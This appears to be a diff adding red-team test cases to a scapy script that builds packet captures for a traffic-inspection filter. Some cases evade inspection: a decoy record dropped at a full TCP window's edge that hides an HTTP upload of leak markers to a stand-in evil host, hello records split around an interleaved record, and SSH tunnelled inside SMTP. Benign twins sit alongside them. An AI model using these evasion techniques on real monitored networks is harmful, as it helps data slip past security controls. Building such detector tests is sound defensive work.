@@ -25,6 +25,7 @@ BitTorrent and WireGuard messages). Every byte is fixed: running it twice
 gives identical files. Run with /usr/bin/python3 (Debian's python3-scapy).
 """
 
+import base64
 import json
 import os
 import struct
@@ -2665,6 +2666,284 @@ def case_synack_again_ok(n):
     t.data(False, tls_appdata(n + "resp", 400))
     t.close()
     return cap, {"pass": [passm(n)]}
+
+
+# Round six (red team): new bytes at the right edge of a window that is open
+# but full (Linux tcp_data_queue drops them: TCPZeroWindowDrop), with its
+# must-allow twins (a receiver with small windows; data that ends exactly at
+# the edge); a social ClientHello whose two records have another record
+# between them; IPv6 atomic fragments (RFC 6946); a foreign protocol behind a
+# genuine SMTP start, either side, and genuine SMTP that looks like it
+# (STARTTLS in a message body, pipelining, AUTH, dot-stuffing, BDAT).
+
+@case
+def case_after_insert_rightedge(n):
+    """The server advertises a small window (field 8 << 7 = 1024 bytes); the
+    client fills it exactly, then sends a decoy record starting at the right
+    edge (no window left: the server drops it); the server's ACK closes the
+    window, a window update opens it; plaintext HTTP at the decoy's sequence
+    number."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42450, E2M, 550, n)
+    t.raw(False, "A", window=8)                  # right edge: cseq + 1024
+    base = t.cseq
+    fill = tls_appdata(n + "fill", 1024 - 5)
+    t.raw(True, "PA", fill, seq=base)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    assert len(fill) == 1024 and len(decoy) == len(http)
+    t.raw(True, "PA", decoy, seq=base + 1024, gap=50)     # at the right edge: dropped there
+    t.cseq = base + 1024
+    t.raw(False, "A", window=0)                  # the fill taken, nothing more
+    t.raw(False, "A", window=501, gap=200000)    # the window opens
+    t.raw(True, "PA", http, seq=base + 1024)
+    t.cseq = base + 1024 + len(http)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_small_window_ok(n):
+    """A genuine session with a server that advertises small windows: 1024
+    in its SYN-ACK (never scaled), then fields 8, 1 and 16 (scaled by the
+    shift 7 both SYNs offer: 1024, 128, 2048 bytes), a window update among
+    them. The client never sends past the right edge, which never moves back."""
+    cap = Capture()
+    t = WinTcp(cap, S1, 42451, E2M, 443, isn=551, rtt_us=20000, ws=1024)
+    t.handshake()
+    edge = [t.cseq + 1024]
+
+    def server(field, payload=b""):
+        """The server's next frame (data, then the client's ACK, or a bare ACK) with window field."""
+        t.ws = field
+        if payload:
+            t.data(False, payload)
+        else:
+            t.raw(False, "A")
+        e = t.cseq + (field << 7)
+        assert e >= edge[0], "a real receiver never moves the right edge back"
+        edge[0] = e
+
+    def client(*segs):
+        for s in segs:
+            assert t.cseq + len(s) <= edge[0], "past the right edge"
+            t.send(True, s, gap=200)
+
+    client(hello(n))
+    server(8, server_hello_flight(n))
+    client(CCS + tls_appdata(n + "fin", 53), marked_record(passm(n), n + "req", 300))
+    server(8, tls_appdata(n + "resp", 400))
+    client(tls_appdata(n + "up1", 895))          # 900 of 1024
+    server(1)                                    # buffer nearly full: 128 bytes
+    client(tls_appdata(n + "up2", 95))           # 100 of them
+    server(1)
+    server(16)                                   # window update: 2048
+    rec = marked_record(passm(n) + b"2", n + "up3", 2000 - 5 - len(passm(n)) - 1)
+    assert len(rec) == 2000
+    client(rec[:1000], rec[1000:])               # 2000 of 2048
+    server(8)
+    server(8, tls_appdata(n + "resp2", 300))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"2"]}
+
+
+@case
+def case_rightedge_fill_ok(n):
+    """The twin of after_insert_rightedge without the decoy: the client's
+    record ends exactly at the right edge; the server's ACK closes the
+    window, a window update opens it, the session goes on."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42452, E2M, 552, n)
+    t.raw(False, "A", window=8)                  # right edge: cseq + 1024
+    base = t.cseq
+    m1, m2 = passm(n) + b"fill", passm(n) + b"next"
+    fill = marked_record(m1, n + "fill", 1024 - 5 - len(m1))
+    assert len(fill) == 1024
+    t.raw(True, "PA", fill, seq=base)
+    t.cseq = base + 1024
+    t.raw(False, "A", window=0)
+    t.raw(False, "A", window=501, gap=200000)
+    t.data(True, marked_record(m2, n + "next", 200))
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"pass": [m1, m2]}
+
+
+def interleaved_social(n, cport, isn, between):
+    """Office: an m.vk.com ClientHello in two handshake records cut inside
+    the name, with the record `between` in between, all in one segment."""
+    cap = Capture()
+    m = hs_client_hello(n, sni=VK, sid=sid32(leak(n)))
+    cut = m.find(VK.encode()) + 3
+    tls_flow(cap, O1, cport, SOC, isn, n, send_whole(record(22, m[:cut]) + between + record(22, m[cut:])),
+             leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_tlsrec_alert_social(n):
+    """A warning alert (user_canceled) between the two records of the hello."""
+    return interleaved_social(n, 42453, 553, record(21, b"\x01\x5a"))
+
+
+@case
+def case_tlsrec_ccs_social(n):
+    """A ChangeCipherSpec record between the two records of the hello."""
+    return interleaved_social(n, 42454, 554, record(20, b"\x01"))
+
+
+@case
+def case_v6_atomic_ok(n):
+    """A genuine IPv6 e2m session whose client data segments each carry an
+    atomic Fragment header (offset 0, M=0: RFC 6946), as a host sends after
+    a Packet Too Big below 1280; the receiver takes each as a whole datagram."""
+    cap = Capture()
+    t = ETcp(cap, S6, 42455, E2M6, 443, isn=555, rtt_us=20000)
+
+    def cdata(payload):
+        pkt = (IPv6(src=S6, dst=E2M6) / IPv6ExtHdrFragment(offset=0, m=0, id=0x5151 + t.cseq)
+               / TCP(sport=42455, dport=443, flags="PA", seq=t.cseq, ack=t.sseq, window=64240) / Raw(payload))
+        cap.emit(l2(S6, E2M6) / pkt, 10000)
+        t.cseq += len(payload)
+        t.raw(False, "A")
+
+    t.handshake()
+    cdata(hello(n))
+    t.data(False, server_hello_flight(n))
+    cdata(CCS + tls_appdata(n + "fin", 53))
+    cdata(marked_record(passm(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    cdata(b"\x15\x03\x03\x00\x13" + prand(n + "cn", 19))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+def ssh_binary(seed, marker):
+    """An SSH binary packet (RFC 4253 6: length, padding length, KEXINIT)
+    with the marker inside its payload."""
+    body = bytes([8, 20]) + prand(seed + "cookie", 16) + marker
+    body += prand(seed + "kex", 300 - len(body))
+    return struct.pack("!I", len(body)) + body
+
+
+SSH_BANNER = b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"
+
+
+@case
+def case_smtp_tunnel_after_ehlo(n):
+    """After the greeting and the EHLO exchange, the client sends an SSH
+    banner (a line) and SSH binary packets; the server answers in SSH."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42456, MAIL, 25, isn=556, rtt_us=4000)
+    t.handshake()
+    smtp_start(t, False)
+    t.data(True, SSH_BANNER)
+    t.data(False, SSH_BANNER)
+    t.data(True, ssh_binary(n, leak(n)))
+    t.data(True, ssh_binary(n + "2", leak(n)))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_smtp_server_foreign(n):
+    """After a genuine greeting and EHLO reply, the client's MAIL FROM is
+    answered with an SSH banner and SSH binary packets from the server side."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42457, MAIL, 25, isn=557, rtt_us=4000)
+    t.handshake()
+    smtp_start(t, False)
+    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example>\r\n")
+    t.data(False, SSH_BANNER)
+    t.data(False, ssh_binary(n, leak(n)))
+    t.data(False, ssh_binary(n + "2", leak(n)))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_smtp_body_starttls_ok(n):
+    """A genuine plaintext session whose message quotes an SMTP transcript:
+    a body line "STARTTLS" (the segment ends with it) and one starting with
+    "220 ". Inside DATA they are message text (RFC 5321 4.1.4); the server
+    answers nothing until the final "."."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42458, MAIL, 25, isn=558, rtt_us=4000)
+    t.handshake()
+    smtp_start(t, False)
+    for c, s in ((b"MAIL FROM:<declarant@e2m.customs.example>\r\n", b"250 2.1.0 Ok\r\n"),
+                 (b"RCPT TO:<office@customs.example>\r\n", b"250 2.1.5 Ok\r\n"),
+                 (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n")):
+        t.data(True, c)
+        t.data(False, s)
+    t.data(True, b"Subject: transcript\r\n\r\nThe client then sent:\r\nSTARTTLS\r\n")
+    t.data(True, b"and the server answered:\r\n220 2.0.0 Ready to start TLS\r\n" + passm(n) + b"\r\n.\r\n")
+    t.data(False, b"250 2.0.0 Ok: queued as 4AB12\r\n")
+    t.data(True, b"QUIT\r\n")
+    t.data(False, b"221 2.0.0 Bye\r\n")
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_smtp_session_ok(n):
+    """A genuine session as Postfix and Exim clients talk: a multi-line
+    greeting; EHLO and its multi-line reply (PIPELINING, 8BITMIME, CHUNKING,
+    AUTH); AUTH LOGIN; MAIL and RCPT pipelined, DATA after their replies
+    (RFC 2920); a body with a dot-stuffed line, UTF-8, and a segment that
+    ends in a line's leading dot; a second message in BDAT chunks (RFC 3030)
+    whose bytes hold NUL and CR LF . CR LF; RSET; QUIT."""
+    cap = Capture()
+    t = ETcp(cap, S1, 42459, MAIL, 25, isn=559, rtt_us=4000)
+    t.handshake()
+    t.data(False, b"220-mail.customs.example ESMTP Postfix (Debian/GNU)\r\n"
+                  b"220 mail.customs.example ready\r\n")
+    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
+    t.data(False, b"250-mail.customs.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
+                  b"250-AUTH PLAIN LOGIN\r\n250-ENHANCEDSTATUSCODES\r\n250-8BITMIME\r\n"
+                  b"250-CHUNKING\r\n250 SMTPUTF8\r\n")
+    t.data(True, b"AUTH LOGIN\r\n")
+    t.data(False, b"334 VXNlcm5hbWU6\r\n")
+    t.data(True, base64.b64encode(b"declarant@e2m.customs.example") + b"\r\n")
+    t.data(False, b"334 UGFzc3dvcmQ6\r\n")
+    t.data(True, base64.b64encode(prand(n + "pw", 12)) + b"\r\n")
+    t.data(False, b"235 2.7.0 Authentication successful\r\n")
+    envelope = (b"MAIL FROM:<declarant@e2m.customs.example> BODY=8BITMIME SIZE=900\r\n"
+                b"RCPT TO:<office@customs.example>\r\n")
+    t.data(True, envelope)
+    t.data(False, b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n")
+    t.data(True, b"DATA\r\n")
+    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n")
+    content = (b"From: Declarant <declarant@e2m.customs.example>\r\nTo: <office@customs.example>\r\n"
+               b"Subject: =?UTF-8?Q?D=C3=A9claration_12?=\r\nMIME-Version: 1.0\r\n"
+               b"Content-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+               + "Déclaration n° 12 – montant 1 200 €, Zollanmeldung für Ü-Waren\r\n".encode()
+               + b"..hidden\r\n" + passm(n) + b"\r\n.\r\n")
+    cut = content.find(b"\r\n..hidden") + 3      # the first segment ends in the line's first dot
+    t.send(True, content[:cut], gap=200)
+    t.send(True, content[cut:], gap=200)
+    t.raw(False, "A")
+    t.data(False, b"250 2.0.0 Ok: queued as 4AB12\r\n")
+    t.data(True, envelope.replace(b"SIZE=900", b"SIZE=320"))
+    t.data(False, b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n")
+    m2 = passm(n) + b"bdat"
+    chunk = (b"From: <declarant@e2m.customs.example>\r\nTo: <office@customs.example>\r\n"
+             b"Subject: chunked\r\n\r\n" + m2 + b"\x00\x01\x00\xff" + b"\r\n.\r\n")
+    chunk += prand(n + "chunk", 300 - len(chunk))
+    last = b"\r\nend of message!!\r\n"
+    assert len(chunk) == 300 and len(last) == 20
+    t.data(True, b"BDAT 300\r\n" + chunk)
+    t.data(False, b"250 2.0.0 Ok: 300 bytes\r\n")
+    t.data(True, b"BDAT 20 LAST\r\n" + last)
+    t.data(False, b"250 2.0.0 Ok: queued as 4AB13\r\n")
+    t.data(True, b"RSET\r\n")
+    t.data(False, b"250 2.0.0 Ok\r\n")
+    t.data(True, b"QUIT\r\n")
+    t.data(False, b"221 2.0.0 Bye\r\n")
+    t.close()
+    return cap, {"pass": [passm(n), m2]}
 
 
 # ------------------------------------------------------------------- main
